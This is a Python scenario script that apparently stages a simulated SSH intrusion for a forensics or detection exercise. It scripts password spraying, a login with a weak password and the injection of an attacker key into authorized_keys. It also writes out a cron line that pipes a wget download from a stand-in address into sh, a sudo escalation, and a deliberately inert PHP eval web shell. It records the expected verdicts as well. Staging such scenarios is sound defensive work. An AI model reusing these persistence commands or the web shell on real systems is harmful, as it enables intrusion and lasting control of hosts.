"""Guessed, entered, made permanent: a password, then a key, a cron entry and a web shell that cannot run anything."""

import base64
import hashlib
import secrets

from scenarios import guessing, normal
from stage import ssh, web
from stage.clock import now
from stage.host import WEAK_PASSWORD
from stage.network import ATTACKERS

LOG_FORMAT = "rfc3339"
INTRUDER = ATTACKERS[0]
ACCOUNT = "deploy"
# Nothing has this address, so nothing is ever fetched.
CRON_LINE = "* * * * * wget -q -T 5 -t 1 -O - http://203.0.113.66/.cache/upd.sh | sh >/dev/null 2>&1"
SHELL_PATH = "/var/www/html/uploads/avatars/session.php"
SHELL_URL = "/uploads/avatars/session.php"
AGENT = "python-requests/2.31.0"


def play(host, network, facts) -> None:
    facts.notes.update(verdict_expected="intrusion", accused=[ACCOUNT, "root"], account=ACCOUNT, entry_vector="ssh_password_guessing",
                       attacker_address=INTRUDER, attacker_addresses=[INTRUDER], intruder_log_ins=[],
                       verdict={"intrusion": "confirmed", "mail_abuse": "none_found", "ways": []})
    normal.round_of_work(host, facts)
    facts.step("guessing", address=INTRUDER)
    guessing.spray(host, facts, [INTRUDER], guessing.NAMES[:8], rounds=1, width=4)
    host.rotate_logs(everything=True)
    normal.round_of_work(host, facts, typos=1)
    guessing.spray(host, facts, [INTRUDER], guessing.NAMES[8:14], rounds=1, width=4)
    host.rotate_logs(everything=False)
    guessing.spray(host, facts, [INTRUDER], ("root", "admin", "webadmin", ACCOUNT), rounds=2, width=4)
    _enter(host, facts)
    key = _leave_key(host, facts)
    _leave_cron_entry(facts, key)
    _leave_web_shell(facts, key)
    host.wait_for("/var/log/cron.log", r"\(deploy\) CMD")
    facts.notes["cron"]["fired"] = True
    _use_web_shell(facts)
    normal.round_of_work(host, facts)


def _enter(host, facts) -> None:
    """The last connection of the guessing: two wrong passwords, then the right one."""
    if not guessing.guess(host, facts, INTRUDER, ACCOUNT, ["deploy", "deploy123", WEAK_PASSWORD]):
        raise RuntimeError("the weak password did not open the door")
    facts.notes.update(login_at=now(), method="password")
    facts.step("login", account=ACCOUNT, address=INTRUDER)
    _logged_in(facts, "password")


def _leave_key(host, facts) -> ssh.Key:
    """An interactive log-in by the guessed password, which adds a key."""
    key = ssh.make_key(host.work, "intruder", "root@localhost")
    commands = ["w", "id", "uname -a", "ls -la ~/.ssh", f"echo '{key.public}' >> ~/.ssh/authorized_keys", "exit"]
    _must(ssh.with_passwords(host.work, INTRUDER, ACCOUNT, [WEAK_PASSWORD], stdin="\n".join(commands) + "\n", terminal=True))
    _logged_in(facts, "password")
    facts.notes["key"] = {"path": f"/home/{ACCOUNT}/.ssh/authorized_keys", "fingerprint": key.fingerprint,
                          "line": key.public, "added_at": now()}
    facts.step("key", path=f"/home/{ACCOUNT}/.ssh/authorized_keys", fingerprint=key.fingerprint)
    return key


def _leave_cron_entry(facts, key: ssh.Key) -> None:
    facts.step("key_used", account=ACCOUNT, address=INTRUDER)
    commands = ["id", f"(crontab -l; echo '{CRON_LINE}') | crontab -", "exit"]
    _must(ssh.with_key(INTRUDER, ACCOUNT, key, stdin="\n".join(commands) + "\n", terminal=True))
    _logged_in(facts, "publickey")
    facts.notes["cron"] = {"path": f"/var/spool/cron/crontabs/{ACCOUNT}", "line": CRON_LINE, "added_at": now()}
    facts.step("cron", path=f"/var/spool/cron/crontabs/{ACCOUNT}", account=ACCOUNT)


def _leave_web_shell(facts, key: ssh.Key) -> None:
    source = inert_web_shell()
    upload = "/tmp/.session.php"
    _must(ssh.with_key(INTRUDER, ACCOUNT, key, command=f"cat > {upload}", stdin=source))
    _logged_in(facts, "publickey")
    facts.step("web_shell", path=upload)
    install = f"install -o www-data -g www-data -m 0644 {upload} {SHELL_PATH}"
    _must(ssh.with_key(INTRUDER, ACCOUNT, key, command=f"sudo -S -p '' {install}", stdin=WEAK_PASSWORD + "\n"))
    _logged_in(facts, "publickey")
    facts.step("root", account=ACCOUNT, address=INTRUDER)
    facts.notes["sudo"] = {"account": ACCOUNT, "command": f"/usr/bin/{install}"}
    facts.notes["dropped_file"] = upload
    facts.notes["web_shell"] = {"path": SHELL_PATH, "sha256": hashlib.sha256(source.encode()).hexdigest(),
                                "url": SHELL_URL, "added_at": now(), "posts": 0}


def inert_web_shell() -> str:
    """Looks like a password-guarded web shell. The guard is a random digest of nothing anyone ever had, so the line behind it never runs."""
    return ("<?php\n"
            f"if (hash('sha256', (string) ($_POST['k'] ?? '')) !== '{secrets.token_hex(32)}') {{ echo 'ok'; exit; }}\n"
            "@eval(base64_decode($_POST['x']));\n")


def _use_web_shell(facts) -> None:
    code = base64.b64encode(b"echo php_uname();").decode()
    facts.step("called", path=SHELL_PATH, address=INTRUDER)
    for n in range(4):
        status = web.request(INTRUDER, SHELL_URL, form=f"k=try{n}&x={code}", agent=AGENT)
        if status != 200:
            raise RuntimeError(f"the web shell answered {status}")
        facts.notes["web_shell"].setdefault("first_post_at", now())
        facts.notes["web_shell"]["posts"] += 1


def _logged_in(facts, method: str) -> None:
    facts.notes["intruder_log_ins"].append({"method": method, "account": ACCOUNT, "address": INTRUDER, "at": now()})


def _must(outcome) -> None:
    if not outcome.opened:
        raise RuntimeError(f"the intruder was kept out: {outcome}")
